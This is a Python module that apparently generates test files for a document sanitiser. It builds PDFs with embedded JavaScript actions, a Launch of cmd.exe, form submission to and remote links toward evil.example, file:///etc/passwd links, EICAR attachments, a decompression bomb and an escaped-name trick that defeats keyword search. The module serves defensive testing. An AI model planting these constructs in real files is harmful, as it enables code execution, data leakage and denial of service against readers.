"""The makers of the corpus: pictures, archives, and PDFs that do what they should not."""

import base64
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

SCRIPT = "app.alert('xin chao')"
EICAR = base64.b64decode(
    "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
)


# --- building blocks ---


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **save: Any) -> bytes:
    with pikepdf.new() as made:
        for number in range(pages):
            page = made.add_blank_page(page_size=(595, 842))
            page.obj.Contents = made.make_stream(b"BT /F1 12 Tf (trang %d) Tj ET" % number)
        if change:
            change(made)
        out = io.BytesIO()
        made.save(out, **save)
    return out.getvalue()


def picture(
    kind: str = "JPEG", size: tuple[int, int] = (120, 80), mode: str = "RGB", **save: Any
) -> bytes:
    drawn = Image.radial_gradient("L").resize(size)
    if mode == "I;16":
        drawn = drawn.convert("I").point(lambda value: value * 256).convert("I;16")
    else:
        drawn = drawn.convert("RGB").convert(mode)
    out = io.BytesIO()
    if kind == "HEIF":
        pillow_heif.from_pillow(drawn).save(out, quality=50)
    else:
        drawn.save(out, format=kind, **save)
    return out.getvalue()


def zipped(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def png_header(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


# --- PDFs that do something ---


def open_action(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = script()


def script_in_names(made: pikepdf.Pdf) -> None:
    leaf = Dictionary(Names=Array([String("a"), made.make_indirect(script())]))
    made.Root.Names = Dictionary(JavaScript=leaf)


def script_in_stream(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=made.make_stream(SCRIPT.encode()))


def page_events(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=script(), C=script())


def catalog_events(made: pikepdf.Pdf) -> None:
    made.Root.AA = Dictionary(WC=script())


def disguised_script(made: pikepdf.Pdf) -> None:
    link = Dictionary(Type=Name.StructElem, S=Name.JavaScript, JS=String(SCRIPT))
    annotate(made, Name.Link, A=made.make_indirect(link))


def chained_script(made: pikepdf.Pdf) -> None:
    chain = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([script(), script()]))
    annotate(made, Name.Link, A=chain)


def form_script(made: pikepdf.Pdf) -> None:
    field = made.make_indirect(Dictionary(FT=Name.Tx, T=String("ten"), AA=Dictionary(K=script())))
    made.Root.AcroForm = Dictionary(Fields=Array([field]))


def outline_script(made: pikepdf.Pdf) -> None:
    item = made.make_indirect(Dictionary(Title=String("a"), A=script()))
    made.Root.Outlines = made.make_indirect(Dictionary(First=item, Last=item, Count=1))


def annotate(made: pikepdf.Pdf, subtype: Name, **entries: Any) -> None:
    mark = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([0, 0, 99, 99]), **entries)
    made.pages[0].obj.Annots = Array([made.make_indirect(mark)])


def launch(made: pikepdf.Pdf) -> None:
    annotate(made, Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))


def submit_form(made: pikepdf.Pdf) -> None:
    annotate(made, Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))


def remote_go_to(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share"))


def script_link(made: pikepdf.Pdf) -> None:
    annotate(made, Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))


def file_link(made: pikepdf.Pdf) -> None:
    annotate(made, Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd")))


def attachment(made: pikepdf.Pdf) -> None:
    made.attachments["eicar.com"] = EICAR


def attached_note(made: pikepdf.Pdf) -> None:
    content = Stream(made, EICAR, Type=Name.EmbeddedFile)
    spec = Dictionary(
        Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=made.make_indirect(content))
    )
    annotate(made, Name.FileAttachment, FS=made.make_indirect(spec))


def associated_file(made: pikepdf.Pdf) -> None:
    content = Stream(made, EICAR, Type=Name.EmbeddedFile)
    spec = Dictionary(
        Type=Name.Filespec, UF=String("a.exe"), EF=Dictionary(UF=made.make_indirect(content))
    )
    made.pages[0].obj.AF = Array([made.make_indirect(spec)])


def xfa(made: pikepdf.Pdf) -> None:
    form = made.make_stream(b"<xdp><script>" + SCRIPT.encode() + b"</script></xdp>")
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)


def rich_media(made: pikepdf.Pdf) -> None:
    content = Dictionary(Configurations=Array([]), Assets=Dictionary())
    annotate(made, Name.RichMedia, RichMediaContent=content)


def movie(made: pikepdf.Pdf) -> None:
    annotate(made, Name.Movie, Movie=Dictionary(F=String("http://evil.example/a.avi")))


def rendition(made: pikepdf.Pdf) -> None:
    annotate(made, Name.Screen, A=Dictionary(S=Name.Rendition, OP=0, JS=String(SCRIPT)))


def outside_stream(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.Contents = made.make_stream(b"q Q", F=String("/etc/passwd"))


def portfolio(made: pikepdf.Pdf) -> None:
    made.Root.Collection = Dictionary(View=Name.T)
    attachment(made)


NEUTRALISED = (
    open_action, script_in_names, script_in_stream, page_events, catalog_events, disguised_script,
    chained_script, form_script, outline_script, launch, submit_form, remote_go_to, script_link,
    file_link, attachment, attached_note, associated_file, xfa, rich_media, movie, rendition,
    outside_stream, portfolio,
)  # fmt: skip


def in_object_stream() -> bytes:
    return pdf(script_in_names, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def escaped_name() -> bytes:
    made = pdf(open_action, object_stream_mode=pikepdf.ObjectStreamMode.disable, static_id=True)
    # "#61" is the letter a: the name is the same, a search for the word finds nothing.
    return made.replace(b"/S /JavaScript", b"/S /J#61v#61Script")


def encrypted() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="chu", user="khach"))


def only_owner_locked() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="chu", user=""))


def page_loop() -> bytes:
    made = pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    start = made.index(b"/Kids [")
    return made[:start] + b"/Kids [ 2 0 R ]" + made[made.index(b"]", start) + 1 :]


def declared_pages() -> bytes:
    made = pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return made.replace(b"/Count 1", b"/Count 100000")


def content_bomb() -> bytes:
    squeezed = zlib.compress(b"\0" * 400_000_000, 9)

    def change(made: pikepdf.Pdf) -> None:
        bomb = Stream(made, b"")
        bomb.write(squeezed, filter=Name.FlateDecode)
        made.pages[0].obj.Contents = bomb

    return pdf(change)


def exactly_the_limit() -> bytes:
    made = pdf()
    return made + b"\n" * (20 * 1024 * 1024 - len(made))


def linearised_cut() -> bytes:
    return pdf(pages=30, linearize=True)[:-900]


def with_gps() -> bytes:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (18.0, 20.0, 33.0), 3: "E", 4: (105.0, 54.0, 20.0)}
    exif[0x0112] = 6
    return picture(exif=exif.tobytes())


def no_pages() -> bytes:
    with pikepdf.new() as made:
        out = io.BytesIO()
        made.save(out)
    return out.getvalue()


def avif() -> bytes:
    return struct.pack(">I", 28) + b"ftypavif\0\0\0\0avifmif1miaf" + b"\0" * 200


def film() -> bytes:
    return struct.pack(">I", 24) + b"ftypisom\0\0\0\0isommp42" + b"\0" * 99


def noise(start: bytes, length: int = 3000) -> bytes:
    return start + random.Random(7).randbytes(length)


DOCX = {"[Content_Types].xml": b"<Types/>", "word__document.xml": b"<w:document/>"}
XLSX = {"[Content_Types].xml": b"<Types/>", "xl__workbook.xml": b"<workbook/>"}
JAR = {"META-INF__MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
GIF = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAkQBADs=")
